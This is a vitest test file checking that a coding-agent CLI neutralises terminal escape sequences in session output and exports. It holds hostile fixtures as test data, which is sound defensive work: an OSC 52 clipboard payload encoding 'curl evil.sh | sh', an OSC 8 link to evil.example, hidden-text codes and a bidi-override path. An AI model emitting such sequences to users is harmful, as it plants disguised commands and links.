import fs from 'node:fs'
import os from 'node:os'
import path from 'node:path'
import { afterEach, beforeEach, describe, expect, it, vi } from 'vitest'
import type { StepwiseEvent } from '../../../shared/protocol'
import { expectInert, HOSTILE } from '../../../shared/terminalText.test-support'
import { exportMarkdown } from '../../session/export'
import { openStore } from '../../store/store'
import type { Store } from '../../store/types'
import { runReplay } from './fork-replay'
import { humanRenderer } from './render'
import { exportSession, listSessions, showSession } from './sessions'

/*
 * Escape sequences in what the model says, in tool arguments, results and paths reach every
 * printer of the CLI and the Markdown export inert, and `--json` keeps them exact. Cases:
 * Trail of Bits, "Deceiving users with ANSI terminal codes in MCP" (2025, OSC 52 / hidden text);
 * Rehberger, "Terminal DiLLMa" (2024, OSC 8 links); Trojan Source, CVE-2021-42574 (U+202E).
 */

let dataDir: string
let repo: string
let store: Store
let sessionId: string

function record(s: Store): { id: string; events: StepwiseEvent[] } {
  const row = s.createSession({ repo, title: `fix ${HOSTILE.hidden}`, provider: 'openai', model: 'm' })
  const drafts = [
    {
      type: 'session.started',
      protocolVersion: 1,
      repo,
      provider: 'openai',
      model: 'm',
      approvalPolicy: 'auto-edit',
      maxSteps: 10,
    },
    { type: 'user.message', text: `please ${HOSTILE.link}` },
    {
      type: 'assistant.message',
      step: 1,
      text: HOSTILE.clipboard,
      toolCalls: [{ id: 'c1', name: 'read_file', arguments: JSON.stringify({ path: HOSTILE.path }) }],
      usage: { inputTokens: 1, outputTokens: 1 },
      durationMs: 5,
      provider: 'openai',
      model: 'm',
    },
    { type: 'tool.started', callId: 'c1', name: 'read_file', args: { path: HOSTILE.path }, mutating: false },
    {
      type: 'tool.finished',
      callId: 'c1',
      name: 'read_file',
      ok: false,
      result: { ok: false, error: `no such file ${HOSTILE.c1}` },
      durationMs: 1,
    },
    { type: 'error', message: HOSTILE.hidden, code: 'bad-response' },
  ] as const
  for (const d of drafts) s.appendEvent(row.id, d as never)
  return { id: row.id, events: s.listEvents(row.id) }
}

function captured(run: () => unknown): string {
  const chunks: string[] = []
  const spy = vi.spyOn(process.stdout, 'write').mockImplementation((chunk: string | Uint8Array) => {
    chunks.push(String(chunk))
    return true
  })
  try {
    run()
  } finally {
    spy.mockRestore()
  }
  return chunks.join('')
}

beforeEach(() => {
  dataDir = fs.realpathSync(fs.mkdtempSync(path.join(os.tmpdir(), 'stepwise-term-data-')))
  repo = fs.realpathSync(fs.mkdtempSync(path.join(os.tmpdir(), 'stepwise-term-repo-')))
  store = openStore(dataDir)
  sessionId = record(store).id
  store.close()
})

afterEach(() => {
  fs.rmSync(dataDir, { recursive: true, force: true })
  fs.rmSync(repo, { recursive: true, force: true })
})

describe('terminal output of hostile session text', () => {
  it('sessions list, show and replay print it escaped and visible', () => {
    for (const out of [
      captured(() => listSessions({ dataDir })),
      captured(() => showSession(sessionId, { dataDir })),
      captured(() => runReplay(sessionId, { dataDir })),
    ]) {
      expectInert(out)
      expect(out).toContain('\\x1b[8m')
    }
    const shown = captured(() => showSession(sessionId, { dataDir }))
    expect(shown).toContain('src/a\\u{202e}st.ts')
    expect(shown).toContain('\\x9b2J')
  })

  it('export --format md escapes it; --format json keeps it exact', async () => {
    const md = captured(() => exportSession(sessionId, { dataDir, format: 'md' }))
    expectInert(md)
    expect(md).toContain('Done.\\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\x07')
    expect(md).toContain('\\x1b]8;;https://evil.example/')

    let json = ''
    await (async () => {
      const chunks: string[] = []
      const spy = vi.spyOn(process.stdout, 'write').mockImplementation((c: string | Uint8Array) => {
        chunks.push(String(c))
        return true
      })
      try {
        await exportSession(sessionId, { dataDir, format: 'json' })
      } finally {
        spy.mockRestore()
      }
      json = chunks.join('')
    })()
    const doc = JSON.parse(json) as { session: { title: string }; events: StepwiseEvent[] }
    expect(doc.session.title).toBe(`fix ${HOSTILE.hidden}`)
    expect(doc.events.find((e) => e.type === 'assistant.message')).toMatchObject({ text: HOSTILE.clipboard })
  })

  it('the live view of `stepwise edit` prints it escaped', () => {
    const s = openStore(dataDir)
    const events = s.listEvents(sessionId)
    const session = s.getSession(sessionId)!
    s.close()
    const chunks: string[] = []
    const sink = { isTTY: false, write: (c: string) => chunks.push(c) > 0 } as unknown as NodeJS.WriteStream
    const renderer = humanRenderer(sink, sink)
    for (const e of events) renderer.onEvent(e)
    renderer.close()
    const out = chunks.join('')
    expectInert(out)
    expect(out).toContain('Done.\\x1b]52;c;')
    expect(out).toContain('src/a\\u{202e}st.ts')
    // The exporter on its own escapes too (it is also called by hosts other than the CLI).
    expectInert(exportMarkdown(session, events))
  })
})
